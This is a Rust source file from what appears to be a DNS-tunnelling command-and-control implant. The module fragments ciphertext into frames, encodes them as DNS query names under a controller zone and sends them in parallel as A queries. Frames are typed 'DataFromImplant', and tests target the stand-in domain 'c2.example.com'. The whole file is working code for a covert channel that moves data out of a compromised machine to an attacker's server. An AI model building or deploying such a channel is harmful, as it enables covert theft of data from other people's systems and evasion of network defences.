//! Envelope sender (component H): fragment ciphertext into frames sized
//! for the chosen alphabet, dispatch every fragment in parallel, and wait
//! for the whole batch to land.
use tokio::sync::oneshot;

use crate::alphabet::Alphabet;
use crate::error::{TunnelError, TunnelResult};
use crate::frame::{Frame, FrameType};
use crate::packer::ParentZone;
use crate::worker::{QueryKind, WorkItem};

/// Walks `data` with a `[start, stop)` cursor, growing `stop` as far as it
/// can while the packed name for `[start, stop)` still fits in
/// `subdata_space - 1` encoded characters (the `-1` margin covers the
/// worst case where one more plaintext byte costs two more encoded
/// characters). Guarantees `stop > start` every iteration -- failure to
/// make progress is a programming error, not a runtime condition, and is
/// asserted rather than propagated as an error.
pub fn split_ciphertext(
    data: &[u8],
    id: u32,
    frame_type: FrameType,
    alphabet: Alphabet,
    zone: &ParentZone,
) -> TunnelResult<Vec<String>> {
    let subdata_space = zone.subdata_space();
    let mut names = Vec::new();
    let mut start = 0usize;
    let mut last_len = 0usize;

    while start < data.len() {
        let mut stop = if last_len == 0 {
            start + subdata_space / 2
        } else {
            start + last_len.saturating_sub(4).max(1)
        };
        stop = stop.clamp(start + 1, data.len());

        // Shrink the initial guess until it fits, or we hit the one-byte
        // floor (at which point an oversized result is a real MsgTooLong,
        // not a guess that needs more shrinking).
        loop {
            let encoded_len = encode_len(data, start, stop, id, frame_type, alphabet);
            if encoded_len <= subdata_space.saturating_sub(1) || stop == start + 1 {
                break;
            }
            stop -= 1;
        }
        if encode_len(data, start, stop, id, frame_type, alphabet) > subdata_space.saturating_sub(1) {
            return Err(TunnelError::MsgTooLong { subdata_len: stop - start, subdata_space });
        }

        // Grow one byte at a time while it still fits.
        while stop < data.len() {
            let candidate = encode_len(data, start, stop + 1, id, frame_type, alphabet);
            if candidate > subdata_space.saturating_sub(1) {
                break;
            }
            stop += 1;
        }

        assert!(stop > start, "split loop failed to make progress: programming error");

        let frame = Frame {
            frame_type,
            id,
            start: start as u32,
            stop: stop as u32,
            size: data.len() as u32,
            data: data[start..stop].to_vec(),
        };
        let encoded = alphabet.encode(&frame.encode());
        names.push(zone.pack(&encoded)?);

        last_len = stop - start;
        start = stop;
    }

    Ok(names)
}

fn encode_len(data: &[u8], start: usize, stop: usize, id: u32, frame_type: FrameType, alphabet: Alphabet) -> usize {
    let frame = Frame {
        frame_type,
        id,
        start: start as u32,
        stop: stop as u32,
        size: data.len() as u32,
        data: data[start..stop].to_vec(),
    };
    alphabet.encode(&frame.encode()).len()
}

/// Fragments `ciphertext` under `alphabet` and enqueues one A-query work
/// item per fragment, returning only once every fragment has completed.
pub async fn parallel_send(
    queue: &async_channel::Sender<WorkItem>,
    ciphertext: &[u8],
    id: u32,
    alphabet: Alphabet,
    zone: &ParentZone,
) -> TunnelResult<()> {
    let names = split_ciphertext(ciphertext, id, FrameType::DataFromImplant, alphabet, zone)?;
    log::debug!("write envelope: {} fragment(s)", names.len());

    let mut completions = Vec::with_capacity(names.len());
    for name in names {
        let (tx, rx) = oneshot::channel();
        queue
            .send(WorkItem { kind: QueryKind::A, name, completion: tx, result_sink: None })
            .await
            .map_err(|_| TunnelError::SessionClosed)?;
        completions.push(rx);
    }
    for rx in completions {
        let _ = rx.await;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_byte_payload_produces_one_fragment() {
        let zone = ParentZone::new("c2.example.com").unwrap();
        let names = split_ciphertext(&[0x42], 1, FrameType::DataFromImplant, Alphabet::Dense, &zone).unwrap();
        assert_eq!(names.len(), 1);
    }

    #[test]
    fn fragments_are_contiguous_and_reconstruct_ciphertext() {
        let zone = ParentZone::new("c2.example.com").unwrap();
        let data: Vec<u8> = (0..2000u32).map(|x| (x % 251) as u8).collect();
        let names = split_ciphertext(&data, 7, FrameType::DataFromImplant, Alphabet::Dense, &zone).unwrap();
        assert!(names.len() > 1);

        let mut reconstructed = Vec::new();
        let mut expected_start = 0u32;
        for name in &names {
            let subdata: String = name.trim_end_matches(".c2.example.com.").split('.').collect();
            let frame = Frame::decode(&Alphabet::Dense.decode(&subdata).unwrap()).unwrap();
            assert_eq!(frame.start, expected_start);
            assert_eq!(frame.stop, frame.start + frame.data.len() as u32);
            reconstructed.extend_from_slice(&frame.data);
            expected_start = frame.stop;
        }
        assert_eq!(reconstructed, data);
    }

    #[test]
    fn every_packed_name_is_well_formed() {
        let zone = ParentZone::new("c2.example.com").unwrap();
        let data = vec![0xAAu8; 500];
        let names = split_ciphertext(&data, 3, FrameType::DataFromImplant, Alphabet::Safe, &zone).unwrap();
        for name in names {
            assert!(name.len() <= 254);
            for label in name.trim_end_matches('.').split('.') {
                assert!(!label.is_empty() && label.len() <= 63);
            }
        }
    }

    #[test]
    fn parent_zone_leaving_almost_no_room_rejects_oversized_frame() {
        // A subdata space of 1 char can never hold even a minimal frame.
        let huge_parent = "a".repeat(250);
        let zone = ParentZone::new(&huge_parent).unwrap();
        assert!(zone.subdata_space() <= 2);
        let data = vec![0x01u8; 10];
        assert!(split_ciphertext(&data, 1, FrameType::DataFromImplant, Alphabet::Dense, &zone).is_err());
    }
}
